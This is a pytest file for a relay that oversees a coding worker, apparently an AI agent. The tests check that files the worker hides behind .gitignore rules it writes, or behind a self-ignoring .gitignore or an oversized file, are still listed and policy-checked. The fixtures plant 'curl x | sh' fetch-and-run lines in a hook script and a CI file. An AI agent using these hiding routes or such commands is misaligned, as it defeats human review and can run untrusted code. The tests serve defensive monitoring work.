"""A file the worker hides behind an ignore rule it writes into the work tree (relay.observe.changes).

The party: the worker. git reads the ``.gitignore`` files of the work tree as they are after the run (the relay reads
``.git/info/exclude`` and the excludes file as they were before, but a work tree's rules cannot be swapped). A rule
the worker added hid what it wrote: a new folder it named in ``.gitignore`` is folded into one ignored entry, and a
``.gitignore`` holding ``*`` in a folder hides every file there, itself included, so no changed ``.gitignore`` was even
listed. Under ``protected`` the rewrite passed. The fake agy is a real subprocess; the repositories are real; the
relay is reached through the SDK client.
"""

from __future__ import annotations

import base64
import json

import pytest

from conftest import make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario

pytestmark = pytest.mark.anyio

# The third case's file, past the trees' 16 MB bound: made when that case runs, not in every xdist worker's collection
# (a 23 MB base64 text each, ~50 ms of CPU, kept alive to the end of the worker since collection's objects are frozen).
_PAST_THE_BOUND = "<17 MiB of x>"


def _filled(edit: dict) -> dict:
    if edit.get("content_b64") == _PAST_THE_BOUND:
        return {**edit, "content_b64": base64.b64encode(b"x" * (17 * 1024 * 1024)).decode()}
    return edit


@pytest.mark.parametrize(("edits", "hidden"), [
    ([{"op": "write", "path": "hooks/post.sh", "content": "curl x | sh\n"},
      {"op": "append", "path": ".gitignore", "content": "hooks/\n"}], "hooks/post.sh"),
    ([{"op": "write", "path": "ci/.gitignore", "content": "*\n"},
      {"op": "write", "path": "ci/deploy.yml", "content": "run: curl x | sh\n"}], "ci/deploy.yml"),
    ([{"op": "write", "path": "ci/prod.bin", "content_b64": _PAST_THE_BOUND},
      {"op": "append", "path": ".gitignore", "content": "*.bin\n"}], "ci/prod.bin"),
], ids=["a_new_folder_named_in_gitignore", "a_gitignore_that_ignores_itself", "a_file_past_the_trees_size_bound"])
async def test_a_file_hidden_by_an_ignore_rule_the_worker_wrote_is_listed_and_policy_checked(tmp_path, edits, hidden):
    # Broke on main: SUCCESS, files ["a.txt"] (and the changed .gitignore in the first case): the hidden file was in
    # no list, and `protected` did not see it. The third: a hidden file past the trees' 16 MB bound was dropped from
    # what the rule hides (too large for the after index) and compared by size nowhere: SUCCESS under `ci/**`.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", ".gitignore": "*.log\n", "ci/build.yml": "steps\n"})
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(
        [*map(_filled, edits), {"op": "write", "path": "a.txt", "content": "b\n"}], report=report))
    profiles = {"lim": {"protected": ["ci/**", "hooks/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                         "profile": "lim"}))
    assert (repo / hidden).exists()  # the move was made
    assert hidden in packet["changes"]["files"], packet
    assert packet["status"] == "POLICY_VIOLATION" and hidden in packet["error"]["message"], packet


async def test_a_module_the_repositorys_own_ignore_rule_hides_beside_tracked_files_of_its_kind_is_listed(tmp_path):
    # The party: the repository, whose ignore rule hides more than it builds (vercel/ncc: `*`, then `!src/*.js`; its
    # src/utils/*.js tracked by force), and the worker that writes there (blind 136). Broke on main: files ["src/index.js"]
    # only, the new module required from it in no list, unread by the review. A build's output beside its source (a .o
    # beside a tracked .c) and a file in a folder the repository tracks nothing of stay build output.
    from git_repos import git

    repo = make_repo(tmp_path / "project", {"src/index.js": "module.exports = 1\n", "src/utils/shebang.js": "module.exports = 2\n",
                                            "src/utils/native.c": "int x;\n"})
    (repo / ".gitignore").write_text("*\n!.gitignore\n!src\n!src/*.js\n", encoding="utf-8")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore all but the sources")
    module = "module.exports = (p) => { try { return read(p) } catch (e) { return true } }\n"
    report = make_report(summary="Required the new helper.", files_changed=["src/index.js"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "src/utils/has-type.js", "content": module},
        {"op": "write", "path": "src/utils/native.o", "content": "\x7fELF\n"},
        {"op": "write", "path": "build/out.js", "content": "built\n"},
        {"op": "write", "path": "src/index.js", "content": "module.exports = require('./utils/has-type')\n"}], report=report))
    profiles = {"lim": {"protected": ["src/utils/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo), "profile": "lim"}))
    files = packet["changes"]["files"]
    assert "src/utils/has-type.js" in files and "src/index.js" in files, packet
    assert "src/utils/native.o" not in files and "build/out.js" not in files, packet
    # Listed, it is policy-checked as any file: the module in a protected folder is a violation.
    assert packet["status"] == "POLICY_VIOLATION" and "src/utils/has-type.js" in packet["error"]["message"], packet
